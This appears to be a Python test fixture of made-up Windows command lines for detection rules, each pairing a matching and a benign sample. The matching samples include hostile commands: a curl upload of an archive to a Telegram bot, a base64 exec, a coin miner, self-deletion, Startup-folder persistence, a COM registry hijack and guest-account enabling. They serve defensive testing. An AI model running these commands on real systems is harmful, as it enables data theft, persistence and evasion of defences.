"""Made-up records for the shipped rules about programs and their command lines."""

from tests.rules.shipped_samples import Sample
from tests.rules.windows_records import command

SAMPLES = (
    Sample(
        "Files Packed or Gathered to Be Carried Away",
        command("C:\\Temp\\rar.exe a -v500m -r C:\\a.rar \\\\srv1\\share"),
        command("C:\\tools\\7z.exe a D:\\backup\\logs.7z D:\\logs"),
    ),
    Sample(
        "Files or Words Sent to a Chat, Paste or Drop Service",
        command("curl.exe -F file=@C:\\a.zip https://api.telegram.org/bot1/sendDocument"),
        command("curl.exe -F file=@C:\\a.zip https://example.org/upload"),
    ),
    Sample(
        "File Transfer Driven by a Command",
        command('"C:\\Temp\\WinSCP.com" /ini=nul /command "open sftp://a"'),
        command("C:\\Temp\\WinSCP.exe"),
    ),
    Sample(
        "Data, Recovery or Restore Points Destroyed by a Command",
        command("fsutil behavior set SymlinkEvaluation R2L:1"),
        command("cmd /c del /f /q C:\\Temp\\a.txt"),
    ),
    Sample(
        "Program Waits and Deletes Itself",
        command(
            'cmd.exe /c ping 127.0.0.1 -n 3 > nul & del /f /q "C:\\Users\\ann\\a.exe"', parent="C:\\Users\\ann\\a.exe"
        ),
        command("cmd.exe /c ping 127.0.0.1 -n 3 > nul & start a.exe"),
    ),
    Sample(
        "File Hidden, Its Origin Forgotten or Its Time Changed",
        command("attrib.exe +s +h C:\\Users\\Public\\a.exe"),
        command("attrib.exe -r C:\\src\\a.txt"),
    ),
    Sample(
        "Source of Event Logs Cut Off by a Command",
        command("logman stop EventLog-Application -ets"),
        command("logman start mytrace -ets"),
    ),
    Sample(
        "Name Resolution, Proxy or Sharing Turned by a Command",
        command('netsh advfirewall firewall set rule group="Network Discovery" new enable=Yes'),
        command("netsh winhttp show proxy"),
    ),
    Sample(
        "Something Made to Last by a Rarely Used Command",
        command('cmd /c copy a.exe "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.exe"'),
        command("cmd /c assoc .txt"),
    ),
    Sample(
        "Registry Command That Hijacks, Hides or Weakens",
        command("reg add HKCU\\Software\\Classes\\CLSID\\{AAAA}\\InprocServer32 /ve /d C:\\a.dll"),
        command("reg add HKCU\\Software\\Vendor /v A /d 1"),
    ),
    Sample(
        "Rights of the System or the Installer Taken by a Tool",
        command("C:\\Temp\\AdvancedRun.exe /EXEFilename C:\\Windows\\System32\\sc.exe /RunAs 8 /Run"),
        command("C:\\Temp\\app.exe -l 80 -p a -t x"),
    ),
    Sample(
        "Script Engine Carried Along or Code Given on Its Command Line",
        command("C:\\py\\python.exe -c \"import base64;exec(base64.b64decode('aA=='))\""),
        command("C:\\py\\python.exe -m pip install requests"),
    ),
    Sample(
        "Program That Mines Coins",
        command("C:\\Temp\\a.exe -o stratum+tcp://192.0.2.7:3333 -u a -p x"),
        command("C:\\Temp\\a.exe -o out.txt"),
    ),
    Sample(
        "Driver Installed or Loaded by a Command",
        command("sc create a binPath= C:\\Users\\Public\\a.sys type= kernel start= demand"),
        command("sc create a binPath= C:\\Windows\\System32\\drivers\\a.sys type= kernel"),
    ),
    Sample(
        "Directory Asked for Weak or Mighty Accounts",
        command("C:\\Temp\\a.exe -f (servicePrincipalName=*) -p"),
        command("powershell ([adsisearcher]'(name=ws1)').FindOne()"),
    ),
    Sample(
        "Screen, Sound or Camera Recorded by a Tool",
        command("C:\\Temp\\nircmd.exe savescreenshot C:\\Temp\\a.png"),
        command("C:\\tools\\ffmpeg.exe -i a.mp4 b.mp3"),
    ),
    Sample(
        "Rules for Passwords and Accounts Weakened by a Command",
        command("net user guest /active:yes"),
        command("net accounts"),
    ),
    Sample(
        "Service or Task Host Starts a Program from a Writable Folder",
        command("C:\\Users\\Public\\a.exe", parent="C:\\Windows\\System32\\services.exe"),
        command("C:\\ProgramData\\Vendor\\bin\\agent.exe", parent="C:\\Windows\\System32\\services.exe"),
    ),
    Sample(
        "PowerShell Runs a Script or Library from a Folder Open to All",
        command("powershell.exe -ep bypass -File C:\\Users\\Public\\a.ps1"),
        command("powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\a.ps1"),
    ),
    Sample("System Settings Read That Attackers Ask First", command("netdom query trust"), command("gpresult /r")),
    Sample(
        "Program from the Desktop or Downloads Starts a Shell or a Scout",
        command("cmd.exe", parent="C:\\Users\\ann\\Downloads\\a.exe"),
        command("cmd.exe /c a.bat", parent="C:\\Users\\ann\\Downloads\\VendorSetup.exe"),
    ),
    Sample(
        "Shell Started by the Service Manager or a Tool's Service",
        command("cmd.exe /c whoami", parent="C:\\Windows\\System32\\services.exe"),
        command("svchost.exe -k netsvcs", parent="C:\\Windows\\System32\\services.exe"),
    ),
)
